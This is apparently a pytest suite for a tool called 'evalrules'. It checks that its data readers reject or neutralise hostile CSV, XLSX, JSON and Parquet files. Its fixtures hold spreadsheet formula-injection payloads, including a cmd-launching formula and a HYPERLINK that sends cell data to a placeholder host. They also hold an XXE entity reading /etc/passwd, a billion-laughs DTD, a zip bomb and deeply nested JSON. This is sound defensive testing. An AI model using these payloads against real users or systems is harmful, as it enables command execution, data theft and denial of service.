"""Hostile and careless data files, on every reader: CSV, XLSX, JSON, JSON Lines and Parquet,
streamed and not. Each gives correct results or a clean error (a :class:`DataError`, exit status 2
and a message naming the file), never a traceback, a hang or a silently different value.

The command runs in a subprocess with a timeout (``run_cli``), so a hang fails the test instead of
the suite; the readers are also called in this process where the exception type matters.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from evalrules.diagnostics import DataError
from evalrules.io import read_rows

openpyxl = pytest.importorskip("openpyxl", reason="the cli extra (openpyxl) is not installed")

#: Seconds a command may take on any file here (each is small).
TIMEOUT = 10

RULES = """\
ruleset 测试
input x: number
input ok: bool default false
input n: integer in 0.. default 0
scale 等次: 好 > 差
let y = x * 2
grade 等次:
  好 when ok
  otherwise 差
"""


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    path = tmp_path / "t.rules"
    path.write_text(RULES, encoding="utf-8")
    return path


def run_cli(*argv, timeout: float = TIMEOUT) -> subprocess.CompletedProcess:
    """``evalrules ARGV`` in a subprocess; fails the test when it runs past ``timeout``."""
    env = {**os.environ, "EVALRULES_LANG": "en"}  # the words below; test_layouts: in Chinese
    try:
        return subprocess.run([sys.executable, "-m", "evalrules", *map(str, argv)],
                              capture_output=True, text=True, timeout=timeout, env=env)
    except subprocess.TimeoutExpired:
        pytest.fail(f"evalrules {' '.join(map(str, argv))} still running after {timeout} s")


def refused(done: subprocess.CompletedProcess, *words: str) -> None:
    """Exit status 2 with a one-line reason that says ``words``, and no traceback."""
    assert "Traceback" not in done.stderr + done.stdout, done.stderr
    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
    assert done.stderr.startswith("evalrules: "), done.stderr
    for word in words:
        assert word in done.stderr, (word, done.stderr)


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def write_xlsx(path: Path, rows: list[list[object]]) -> Path:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


# ---------------------------------------------------------------- #4a a repeated column

REPEATED = [["备注", "x", "备注", "x"], ["甲", "1", "乙", "2"]]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".json", ".jsonl"])
def test_a_repeated_column_is_refused_not_merged(suffix, tmp_path, rules):
    """#4a: `备注,x,备注,x` was graded with the last cell winning and the other column dropped
    from the output. Every reader refuses it, naming the column and where it repeats."""
    path = tmp_path / f"dup{suffix}"
    if suffix == ".csv":
        write_csv(path, REPEATED)
    elif suffix == ".xlsx":
        write_xlsx(path, REPEATED)
    else:  # JSON: an object with a key twice (json.loads keeps the last silently)
        text = '{"备注": "甲", "x": 1, "备注": "乙", "x": 2}'
        path.write_text(f"[{text}]" if suffix == ".json" else text + "\n", encoding="utf-8")
    with pytest.raises(DataError, match="备注"):
        list(read_rows(path))
    done = run_cli("eval", rules, path, "-o", tmp_path / "out.csv")
    refused(done, path.name, "备注")
    assert not (tmp_path / "out.csv").exists()


def test_a_repeated_column_names_its_places(tmp_path):
    path = write_csv(tmp_path / "dup.csv", REPEATED)
    with pytest.raises(DataError) as e:
        list(read_rows(path))
    assert "columns 1 and 3 (A and C)" in str(e.value)


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_streamed_file_with_a_repeated_column_is_refused(suffix, tmp_path, rules):
    pa = pytest.importorskip("pyarrow")
    path = tmp_path / f"dup{suffix}"
    if suffix == ".csv":
        write_csv(path, REPEATED)
    else:
        import pyarrow.parquet as pq

        pq.write_table(pa.Table.from_arrays([pa.array(c) for c in zip(*REPEATED[1:],
                                                                        strict=True)],
                                            names=REPEATED[0]), path)
    done = run_cli("eval", rules, path, "--stream", "-o", tmp_path / "out.csv")
    refused(done, path.name, "备注")


def test_a_value_beyond_the_header_of_a_csv_is_refused_and_blank_ones_are_nothing(tmp_path):
    """A cell to the right of the last named column of a CSV (often a comma too many in a row)
    would be dropped from the output. A spreadsheet's cells stand in their columns: only the
    columns with a header are read (#16: a sheet may claim 16,384 columns)."""
    fine = write_csv(tmp_path / "fine.csv", [["x", "备注", "", ""], ["1", "甲", "", " "]])
    assert list(read_rows(fine)) == [{"x": "1", "备注": "甲"}]  # trailing unnamed, empty
    more = write_csv(tmp_path / "more.csv", [["x", "备注"], ["1", "甲"], ["2", "乙", "丙"]])
    with pytest.raises(DataError, match=r"more\.csv, line 3: column C holds '丙' but has no"):
        list(read_rows(more))
    sheet = write_xlsx(tmp_path / "more.xlsx", [["x", "备注"], [1, "甲"], [2, "乙", "丙"]])
    assert list(read_rows(sheet))[1] == {"x": 2, "备注": "乙"}


def test_an_unnamed_column_is_named_by_its_letter_streamed_or_not(tmp_path, rules):
    """Two blank header cells were two columns named '' (one lost); each is now named by its
    letter, as a spreadsheet reader already did, and a CSV reads the same streamed or not."""
    pytest.importorskip("pyarrow")
    path = write_csv(tmp_path / "blank.csv", [["x", "", "ok", "", "备注"],
                                              ["1", "a", "是", "b", ""], ["2", "", "no", "", ""]])
    assert next(read_rows(path)) == {"x": "1", "B": "a", "ok": "是", "D": "b", "备注": ""}
    for extra in ([], ["--stream"]):
        out = tmp_path / f"out{len(extra)}.csv"
        done = run_cli("eval", rules, path, "-o", out, *extra)
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
        rows = list(read_rows(out))
        assert [r["B"] for r in rows] == ["a", ""] and rows[0]["等次"] == "好"
        assert "must be true or false, not 'no' (accepted: 是, 否, √, ×," in rows[1]["error"]


# ---------------------------------------------------------------- #7 formula injection

#: Text cells a spreadsheet would run as formulas (OWASP "CSV injection"), and look-alikes.
FORMULAS = ['=HYPERLINK("http://x/?"&B2,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C x'!A0",
            "-2+3+cmd|' /C x'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted",
            "''+twice", "+86 138 0000 0000", "-", "=", "'"]
#: Plain numbers stay numbers, signs included.
NUMBERS = ["-3", "+5", "-0.5", "-80%", "-2/3", "-1e3", "'-3"]


def _formula_file(tmp_path: Path) -> Path:
    cells = FORMULAS + NUMBERS
    rows = [["编号", "=1+2", "x", "ok"]]
    rows += [[cell, cell, "-3" if i % 2 else "1.5", "是"] for i, cell in enumerate(cells)]
    rows.append(["坏", "", "2", "=1"])  # an error message quoting a cell
    return write_csv(tmp_path / "in.csv", rows)


def _spreadsheet_would_run(text: str) -> bool:
    import re

    return bool(re.match(r"[=+\-@\t\r]", text)) and not re.fullmatch(
        r"[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?%?|[+-]?[0-9]+/[0-9]+", text)


@pytest.mark.parametrize("out_name", ["out.csv", "out.xlsx", "stream.csv"])
def test_no_text_cell_is_written_as_a_formula(out_name, tmp_path, rules):
    """#7: a text cell `=HYPERLINK(…)` or `=cmd|…` came back as a live formula in .xlsx and raw
    in .csv. Every text cell written (the user's columns, the header, results, errors) is stored
    as text in .xlsx and prefixed with ' in .csv when a spreadsheet would take it for a formula;
    numbers stay numbers; evalrules reads its own output back to the same values."""
    src = _formula_file(tmp_path)
    out = tmp_path / out_name
    stream = ["--stream"] if out_name.startswith("stream") else []
    done = run_cli("eval", rules, src, "-o", out, *stream)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    if out.suffix == ".csv":
        with out.open(encoding="utf-8-sig", newline="") as f:
            cells = [c for row in csv.reader(f) for c in row]
        assert not [c for c in cells if _spreadsheet_would_run(c)]
        assert "'=HYPERLINK(\"http://x/?\"&B2,\"click\")" in cells
        assert {"-3", "-6", "'=1+2", "'=already quoted", "''+twice"} <= set(cells)
    else:
        sheet = openpyxl.load_workbook(out).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.value for c in cells if c.data_type == "f"]
        assert {c.value for c in cells if c.data_type == "n"} - {None} == {-6, 3}  # results
        assert [c.value for c in cells if c.value == "-3"]  # a CSV's text, as text, unquoted
        assert not [c for c in cells if c.value == "-3" and c.quotePrefix]
        assert all(c.quotePrefix for c in cells if isinstance(c.value, str)
                   and _spreadsheet_would_run(c.value))
    again = list(read_rows(out))
    original = list(read_rows(src))
    if out.suffix == ".xlsx":  # XML's line ends; an empty cell is no value
        for r in original:
            r.update({k: r[k].replace("\r", "\n") or None for k in ("编号", "=1+2")})
    assert [{k: r[k] for k in ("编号", "=1+2")} for r in again] == \
        [{k: r[k] for k in ("编号", "=1+2")} for r in original]
    assert [r["x"] for r in again] == [r["x"] for r in original]
    assert "must be true or false, not '=1' (accepted: " in again[-1]["error"]
    regraded = tmp_path / f"again{out.suffix}"
    assert run_cli("eval", rules, out, "-o", regraded, *stream).returncode == 1
    assert list(read_rows(regraded)) == again


# ---------------------------------------------------------------- #16 hostile files

def _xlsx(path: Path, rows: list[list[object]], patch=None) -> Path:
    """An .xlsx of ``rows`` whose first sheet's XML goes through ``patch`` (bytes → bytes)."""
    import zipfile

    plain = write_xlsx(path.with_suffix(".plain.xlsx"), rows)
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and patch is not None:
                data = patch(data)
            zout.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED)
    plain.unlink()
    return path


def _with_dtd(dtd: bytes, entity: bytes):
    """Put a DTD before a sheet's root element and ``entity`` in place of the text cell `x`."""
    import re

    def patch(data: bytes) -> bytes:
        data = re.sub(rb"^<\?xml[^>]*\?>", b"", data).replace(b"<t>x</t>", b"<t>" + entity
                                                              + b"</t>", 1)
        return b'<?xml version="1.0"?>' + dtd + data
    return patch


LAUGHS = b"<!DOCTYPE x [<!ENTITY l0 'lol'>" + b"".join(
    b"<!ENTITY l%d '%s'>" % (i, b"".join(b"&l%d;" % (i - 1) for _ in range(10)))
    for i in range(1, 10)) + b"]>"
ROWS = [["x", "ok"], *([i, "是"] for i in range(1, 301))]


def _huge_dimension(data: bytes) -> bytes:
    """A 1,048,576 × 16,384 sheet in a few KB: a dimension, and a last row far below."""
    import re

    data = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', data)
    return data.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576" t="inlineStr">'
                        b"<is><t> </t></is></c></row></sheetData>")


def _zip_bomb(data: bytes) -> bytes:
    return data.replace(b"<sheetData>", b"<sheetData>" + b" " * (80 << 20))


#: name → (how to make it, what a run gives: "ok" with that many records, or words of the error)
HOSTILE = {
    "dimension.xlsx": (lambda p: _xlsx(p, ROWS, _huge_dimension), ("ok", 300)),
    "laughs.xlsx": (lambda p: _xlsx(p, ROWS, _with_dtd(LAUGHS, b"&l9;")),
                    ("cannot read laughs.xlsx",)),
    "external.xlsx": (lambda p: _xlsx(p, ROWS, _with_dtd(
        b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', b"&e;")),
        ("cannot read external.xlsx",)),
    "entity.xlsx": (lambda p: _xlsx(p, ROWS, _with_dtd(b"<!DOCTYPE x [<!ENTITY e 'x'>]>", b"&e;")),
                    ("ok", 300)),  # a harmless internal entity: read safely
    "bomb.xlsx": (lambda p: _xlsx(p, ROWS, _zip_bomb), ("bomb.xlsx", "expands")),
    "wide-cell.csv": (lambda p: p.write_text("x,ok\n1," + "是" * 200_000 + "\n", encoding="utf-8"),
                      ("wide-cell.csv", "line 2", "131,072")),
    "deep.json": (lambda p: p.write_text("[" * 100_000 + "]" * 100_000), ("deep.json", "deep")),
    "deep.jsonl": (lambda p: p.write_text("[" * 100_000 + "]" * 100_000 + "\n"),
                   ("deep.jsonl, line 1", "deep")),
    "nested.json": (lambda p: p.write_text('[{"x": 1, "备注": ' + "[" * 900 + "]" * 900 + "}]"),
                    ("nested.json", "deep")),
    "gbk.csv": (lambda p: p.write_bytes("x,ok\n1,是\n".encode("gbk")), ("ok", 1)),  # #12
    "not.parquet": (lambda p: p.write_text("x,ok\n1,true\n"), ("not.parquet", "Parquet")),
    "not.xlsx": (lambda p: p.write_text("x,ok\n1,true\n"), ("not.xlsx", "Excel")),
    # #12: a run that grades no record says why, and fails
    "no-records.csv": (lambda p: p.write_text("x,ok\n"), ("no-records.csv", "no record", "row 1")),
    "no-records.json": (lambda p: p.write_text("[]"), ("no-records.json", "no record")),
    "blank.csv": (lambda p: p.write_text("\n\n"), ("blank.csv", "empty")),
    "blank.jsonl": (lambda p: p.write_text("\n \n"), ("blank.jsonl", "empty")),
    "no-header.xlsx": (lambda p: write_xlsx(p, []), ("no-header.xlsx", "empty")),
    **{f"empty.{s}": (lambda p: p.write_bytes(b""), (f"empty.{s}", "empty"))
       for s in ("csv", "xlsx", "json", "jsonl", "parquet")},
}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_file_gives_a_clean_error_or_correct_results(name, stream, tmp_path, rules):
    """#16: a 5 KB .xlsx declaring 1,048,576 × 16,384 cells ran for minutes; an .xlsx with a DTD,
    a CSV cell over 128 KiB, JSON nested 100,000 deep gave tracebacks; empty files were graded as
    no records. Each file is read correctly, or refused with exit status 2 and its name."""
    path = tmp_path / name
    make, expected = HOSTILE[name]
    make(path)
    suffix = path.suffix
    if stream and suffix not in (".csv", ".parquet"):
        pytest.skip("streaming reads CSV and Parquet")
    out = tmp_path / ("out.parquet" if stream else "out.csv")
    done = run_cli("eval", rules, path, "-o", out, *(["--stream"] if stream else []))
    if stream and name == "wide-cell.csv":  # Arrow reads a long cell: graded, the cell kept
        expected = ("ok", 1)
    if stream and name == "gbk.csv":  # streaming reads UTF-8 only, and says so
        expected = ("gbk.csv", "UTF-8")
    if stream and name == "no-records.csv":  # no header candidates to name: nothing was graded
        expected = ("no-records.csv", "no record")
    if expected[0] == "ok":
        assert done.returncode in (0, 1) and "Traceback" not in done.stderr, done.stderr
        assert f"{expected[1]} records" in done.stdout, done.stdout
    else:
        refused(done, *expected)
        assert not out.exists()


def test_an_xlsx_reads_only_the_columns_with_a_header(tmp_path):
    path = _xlsx(tmp_path / "d.xlsx", ROWS, _huge_dimension)
    rows = list(read_rows(path))
    assert len(rows) == 300 and rows[0] == {"x": 1, "ok": "是"}


def test_a_formula_whose_value_was_never_computed_is_refused(tmp_path, rules):
    """A workbook written by a program (openpyxl, not Excel) holds formulas without their values;
    read as empty cells, the input's default applied and the row was graded with 0 for 1+2."""
    path = write_xlsx(tmp_path / "formula.xlsx", [["x", "ok", "n"], [1, "是", "=1+2"]])
    with pytest.raises(DataError, match=r"formula\.xlsx, cell C2: a formula whose value"):
        list(read_rows(path))
    refused(run_cli("eval", rules, path), "formula.xlsx", "C2")
    # Excel's own files keep each formula's value: read as the value
    saved = _xlsx(tmp_path / "saved.xlsx", [["x", "ok", "n"], [1, "是", 7]],
                  lambda d: d.replace(b"<v>7</v>", b"<f>1+2</f><v>3</v>"))
    assert list(read_rows(saved)) == [{"x": 1, "ok": "是", "n": 3}]
    # a formula outside the header's columns is not read
    aside = write_xlsx(tmp_path / "aside.xlsx", [["x", "ok"], [1, "是", None, "=1+2"]])
    assert list(read_rows(aside)) == [{"x": 1, "ok": "是"}]
